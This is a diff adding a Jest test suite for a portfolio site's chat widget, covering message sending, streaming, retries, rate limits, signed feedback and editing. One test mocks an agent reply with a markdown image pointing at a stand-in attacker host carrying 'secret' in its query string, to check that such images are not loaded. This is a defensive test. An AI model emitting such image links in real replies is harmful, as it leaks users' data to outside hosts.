@@ -0,0 +1,187 @@
+/** @jest-environment ./test/helpers/jsdomEnvironment.js */
+
+import { fireEvent, render, screen, waitFor } from "@testing-library/react";
+import AgentComponent from "../../pages/index";
+import {
+  jsonResponse,
+  mockFetch,
+  proxyCalls,
+  sendMessage,
+  streamResponse,
+} from "../helpers/widget";
+
+beforeEach(() => {
+  sessionStorage.clear();
+  localStorage.clear();
+  jest.spyOn(console, "error").mockImplementation(() => {});
+});
+
+afterEach(() => {
+  jest.restoreAllMocks();
+  delete global.fetch;
+});
+
+describe("AgentComponent", () => {
+  it("sends the message with the visitor's IDs and shows the reply", async () => {
+    mockFetch(() => jsonResponse({ output_data: { content: "Jun builds **chat widgets**." } }));
+    render(<AgentComponent />);
+
+    sendMessage("Favorite project?");
+
+    expect(await screen.findByText("chat widgets")).toBeInTheDocument();
+    expect(screen.getByText("Favorite project?")).toBeInTheDocument();
+
+    const [url, options] = proxyCalls()[0];
+    expect(url).toBe("/api/proxy/portfolio");
+    const payload = JSON.parse(options.body);
+    expect(payload.data.message).toEqual({ role: "user", content: "Favorite project?" });
+    expect(payload.session_id).toBe(sessionStorage.getItem("sessionId"));
+    expect(payload.user_id).toBe(localStorage.getItem("userId"));
+    expect(screen.getByRole("textbox", { name: "Message" })).toHaveValue("");
+  });
+
+  it("doesn't load images from other sites in replies", async () => {
+    mockFetch(() =>
+      jsonResponse({
+        output_data: { content: "Here: ![a chart](https://attacker.example/?q=secret)" },
+      })
+    );
+    render(<AgentComponent />);
+
+    sendMessage("Show me a chart");
+
+    expect(await screen.findByText("a chart")).toBeInTheDocument();
+    expect(document.querySelector('img[src*="attacker.example"]')).toBeNull();
+  });
+
+  it("shows a streamed reply as it arrives", async () => {
+    mockFetch(() =>
+      streamResponse([
+        ["delta", { content: "Jun " }],
+        ["delta", { content: "builds widgets." }],
+        ["done", { output_data: { content: "Jun builds widgets." } }],
+      ])
+    );
+    render(<AgentComponent />);
+
+    sendMessage("Favorite project?");
+
+    expect(await screen.findByText("Jun builds widgets.")).toBeInTheDocument();
+    await waitFor(() =>
+      expect(screen.getByRole("button", { name: "Send message" })).toBeInTheDocument()
+    );
+  });
+
+  it("keeps a failed message so it can be sent again", async () => {
+    mockFetch(
+      () => jsonResponse({ error: "Internal Server Error" }, { status: 500 }),
+      () => jsonResponse({ output_data: { content: "Here it is." } })
+    );
+    render(<AgentComponent />);
+
+    sendMessage("Favorite project?");
+
+    expect(await screen.findByText("Something went wrong. Please try again.")).toBeInTheDocument();
+    expect(screen.getByText(/Not sent/)).toBeInTheDocument();
+
+    fireEvent.click(screen.getByRole("button", { name: "Retry" }));
+
+    expect(await screen.findByText("Here it is.")).toBeInTheDocument();
+    expect(proxyCalls()).toHaveLength(2);
+    expect(screen.getAllByText("Favorite project?")).toHaveLength(1);
+  });
+
+  it("explains empty replies", async () => {
+    mockFetch(() => jsonResponse({ output_data: { content: "" } }));
+    render(<AgentComponent />);
+
+    sendMessage("Hello");
+
+    expect(
+      await screen.findByText("The agent sent back an empty or unreadable reply. Please try again.")
+    ).toBeInTheDocument();
+  });
+
+  it("counts down when rate limited", async () => {
+    mockFetch(() =>
+      jsonResponse(
+        { error: "Too many requests", code: "rate_limited", retryAfter: 30 },
+        { status: 429, headers: { "Retry-After": "30" } }
+      )
+    );
+    render(<AgentComponent />);
+
+    sendMessage("Hello");
+
+    expect(await screen.findByText(/You're sending messages a little fast\./)).toBeInTheDocument();
+    expect(screen.getByText(/Try again in 30s\./)).toBeInTheDocument();
+  });
+
+  it("only offers ratings for replies the proxy signed, and sends the signature", async () => {
+    mockFetch(
+      () => jsonResponse({ output_data: { content: "Unsigned reply." } }),
+      () => jsonResponse({ output_data: { content: "Signed reply.", signature: "sig" } })
+    );
+    render(<AgentComponent />);
+
+    sendMessage("First");
+    await screen.findByText("Unsigned reply.");
+    expect(screen.queryByRole("button", { name: "Good response" })).not.toBeInTheDocument();
+
+    sendMessage("Second");
+    await screen.findByText("Signed reply.");
+    fireEvent.click(screen.getByRole("button", { name: "Good response" }));
+
+    const [, options] = global.fetch.mock.calls.find(([url]) => url === "/api/feedback");
+    expect(JSON.parse(options.body)).toMatchObject({
+      rating: "up",
+      reply: "Signed reply.",
+      signature: "sig",
+    });
+  });
+
+  it("closes with Escape", async () => {
+    mockFetch(() => jsonResponse({ output_data: { content: "Hi!" } }));
+    render(<AgentComponent />);
+
+    fireEvent.focus(screen.getByRole("textbox", { name: "Message" }));
+    expect(screen.getByRole("button", { name: "Close chat" })).toBeInTheDocument();
+
+    fireEvent.keyDown(screen.getByRole("region"), { key: "Escape" });
+    expect(screen.queryByRole("button", { name: "Close chat" })).not.toBeInTheDocument();
+  });
+
+  it("sends with Enter but not Shift+Enter", () => {
+    mockFetch(() => jsonResponse({ output_data: { content: "Hi!" } }));
+    render(<AgentComponent />);
+
+    const composer = screen.getByRole("textbox", { name: "Message" });
+    fireEvent.change(composer, { target: { value: "First line" } });
+    fireEvent.keyDown(composer, { key: "Enter", shiftKey: true });
+    expect(proxyCalls()).toHaveLength(0);
+
+    fireEvent.keyDown(composer, { key: "Enter" });
+    expect(proxyCalls()).toHaveLength(1);
+  });
+
+  it("replaces an edited message and the reply to it", async () => {
+    mockFetch(
+      () => jsonResponse({ output_data: { content: "Jun builds widgets." } }),
+      () => jsonResponse({ output_data: { content: "Jun likes hiking." } })
+    );
+    render(<AgentComponent />);
+
+    sendMessage("Favorite project?");
+    expect(await screen.findByText("Jun builds widgets.")).toBeInTheDocument();
+
+    fireEvent.click(screen.getByRole("button", { name: "Edit message" }));
+    const composer = screen.getByRole("textbox", { name: "Message" });
+    expect(composer).toHaveValue("Favorite project?");
+    fireEvent.change(composer, { target: { value: "Favorite hobby?" } });
+    fireEvent.keyDown(composer, { key: "Enter" });
+
+    expect(await screen.findByText("Jun likes hiking.")).toBeInTheDocument();
+    expect(screen.queryByText("Favorite project?")).toBeNull();
+    expect(screen.queryByText("Jun builds widgets.")).toBeNull();
+  });
+});